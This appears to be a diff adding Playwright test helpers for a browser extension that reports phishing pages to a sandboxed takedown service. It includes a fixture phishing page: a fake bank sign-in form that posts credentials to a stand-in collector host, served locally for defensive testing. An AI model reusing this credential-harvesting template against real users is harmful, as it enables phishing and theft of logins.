@@ -1,0 +1,154 @@
+import type { BrowserContext, Page, Worker } from '@playwright/test';
+import type { Sandbox } from '../sandbox/server.ts';
+
+// Shared steps of the reporting tests: phishing pages served by Playwright
+// (nothing leaves the machine), the sandbox's state and request log, and the
+// test-only dispatchers the sandbox build exposes for menus and shortcuts.
+
+/** A phishing page: a credential form posting to another origin, outbound links, a third-party script. */
+export const PHISHING_HTML = `<!doctype html><html><head><meta charset="utf-8"><title>Acme Bank – Sign in</title>
+<script src="https://cdn.kit-host.com/kit.js"></script></head>
+<body style="font: 20px sans-serif; background: #fff">
+<h1>Acme Bank secure sign-in</h1>
+<form action="https://collect.kit-host.com/gate.php" method="post">
+  <input name="username" type="email"><input name="password" type="password"><button>Sign in</button>
+</form>
+<p><a id="pay" href="https://pay.evil-link.com/checkout">Pay your fine</a>
+<a href="https://acme.example/real">Real Acme</a></p>
+<p id="contact">Call +44 20 7946 0958 or write to refunds[at]acme-billing[.]com</p>
+</body></html>`;
+
+/**
+ * Serves the phishing page at every web address but the sandbox's, and
+ * answers anything else a page asks for with nothing: no request leaves the machine.
+ */
+export async function servePhishingPages(context: BrowserContext): Promise<void> {
+  await context.route(
+    (url) => /^https?:$/.test(url.protocol) && url.hostname !== '127.0.0.1',
+    (route) =>
+      route.request().resourceType() === 'document'
+        ? route.fulfill({ status: 200, contentType: 'text/html', body: PHISHING_HTML })
+        : route.fulfill({ status: 204, body: '' }),
+  );
+}
+
+/** Connects the extension to the sandbox through the options page (the real flow). */
+export async function connect(context: BrowserContext, extensionId: string, sandbox: Sandbox, key = sandbox.keys.managed): Promise<void> {
+  const page = await context.newPage();
+  await page.goto(`chrome-extension://${extensionId}/options.html`);
+  await page.getByLabel('Service URL').fill(sandbox.baseUrl);
+  await page.getByLabel('API key').fill(key);
+  await page.getByRole('button', { name: 'Save and verify' }).click();
+  await page.locator('[data-state="connected"]').first().waitFor();
+  await page.close();
+}
+
+/** Opens a phishing page in a new tab, in front. */
+export async function openPhishingPage(context: BrowserContext, url: string): Promise<Page> {
+  const page = await context.newPage();
+  await page.goto(url);
+  await page.bringToFront();
+  return page;
+}
+
+export interface StoredAttachment {
+  name: string;
+  type: string;
+  size: number;
+  sha256: string;
+  text?: string;
+}
+
+export interface StoredIncident {
+  id: string;
+  url?: string;
+  subject?: string;
+  incidentType?: string;
+  status: string;
+  reportedBy?: string;
+  comment?: string;
+  clientId: string;
+  attachments: StoredAttachment[];
+  history: { message: string }[];
+}
+
+/** The incidents the sandbox holds now. */
+export async function incidents(sandbox: Sandbox): Promise<StoredIncident[]> {
+  const body = (await (await fetch(`${sandbox.baseUrl}/__sandbox/state`)).json()) as { data: { incidents: StoredIncident[] } };
+  return body.data.incidents;
+}
+
+/** The incident reported for this URL or subject, if any. */
+export async function incidentFor(sandbox: Sandbox, subject: string): Promise<StoredIncident | undefined> {
+  return (await incidents(sandbox)).find((incident) => incident.url === subject || incident.subject === subject);
+}
+
+interface LoggedRequest {
+  method: string;
+  path: string;
+  status: number | null;
+  contentType: string | null;
+  bodyBytes: number;
+}
+
+/** Report requests (POST /v1/incident/tkd or /monitor) the sandbox received. */
+export async function reportRequests(sandbox: Sandbox): Promise<LoggedRequest[]> {
+  const body = (await (await fetch(`${sandbox.baseUrl}/__sandbox/requests`)).json()) as { data: LoggedRequest[] };
+  return body.data.filter((entry) => entry.method === 'POST' && /^\/v1\/incident\/(tkd|monitor)$/.test(entry.path));
+}
+
+/** Adds a fault to the sandbox (see its README). */
+export async function addFault(sandbox: Sandbox, fault: Record<string, unknown>): Promise<void> {
+  await fetch(`${sandbox.baseUrl}/__sandbox/faults`, { method: 'POST', body: JSON.stringify(fault) });
+}
+
+declare const chrome: {
+  tabs: { query(query: object): Promise<{ id: number; url: string }[]> };
+  action: { getBadgeText(details: { tabId: number }): Promise<string> };
+};
+declare const takedownReporterTest: {
+  menuClick(info: object, tab: object): Promise<void>;
+  command(name: string, tab: object): Promise<void>;
+};
+
+/** Clicks one of the extension's context-menu entries on the active tab (same dispatcher as the native click). */
+export async function clickMenu(worker: Worker, info: { menuItemId: string; linkUrl?: string; selectionText?: string; pageUrl?: string }): Promise<void> {
+  await worker.evaluate(async (clicked) => {
+    const [tab] = await chrome.tabs.query({ active: true, lastFocusedWindow: true });
+    await takedownReporterTest.menuClick({ editable: false, ...clicked }, tab!);
+  }, info);
+}
+
+/** Starts a menu click without waiting for the report to finish. */
+export async function startMenuClick(worker: Worker, info: { menuItemId: string }): Promise<void> {
+  await worker.evaluate(async (clicked) => {
+    const [tab] = await chrome.tabs.query({ active: true, lastFocusedWindow: true });
+    void takedownReporterTest.menuClick({ editable: false, ...clicked }, tab!);
+  }, info);
+}
+
+/** Presses the reporting shortcut on the active tab (same dispatcher as the native command). */
+export async function pressShortcut(worker: Worker): Promise<void> {
+  await worker.evaluate(async () => {
+    const [tab] = await chrome.tabs.query({ active: true, lastFocusedWindow: true });
+    await takedownReporterTest.command('report-page', tab!);
+  });
+}
+
+/** The toolbar badge on the active tab. */
+export async function badgeText(worker: Worker): Promise<string> {
+  return worker.evaluate(async () => {
+    const [tab] = await chrome.tabs.query({ active: true, lastFocusedWindow: true });
+    return chrome.action.getBadgeText({ tabId: tab!.id });
+  });
+}
+
+/** Waits until a page whose URL contains `part` is open, and answers it. */
+export async function waitForPage(context: BrowserContext, part: string): Promise<Page> {
+  for (let attempt = 0; attempt < 100; attempt++) {
+    const page = context.pages().find((candidate) => candidate.url().includes(part));
+    if (page) return page;
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+  throw new Error(`No page with ${part} opened.`);
+}
